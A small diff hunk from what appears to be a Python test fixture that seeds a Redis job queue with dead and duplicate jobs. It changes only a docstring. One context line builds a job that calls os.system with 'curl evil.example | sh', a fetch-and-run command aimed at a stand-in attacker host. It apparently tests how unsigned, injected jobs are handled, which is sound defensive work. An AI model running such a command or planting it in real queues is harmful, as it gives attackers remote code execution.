@@ -93,7 +93,7 @@ def dead_jobs(now: float, count: int, *, first: int = 5000, every: float = 95.0)
 
 
 def unsigned(client: redis.Redis) -> None:
-    """Dead jobs as the framework leaves them, and two of one id that somebody added."""
+    """Dead jobs as the framework leaves them, and two of one id that another client added."""
     now = server_time(client)
     jobs = [replace(job(n), id=job_id(n % 12)) for n in range(14)]
     jobs[12] = replace(jobs[12], module="os", function="system", args=("curl evil.example | sh",))
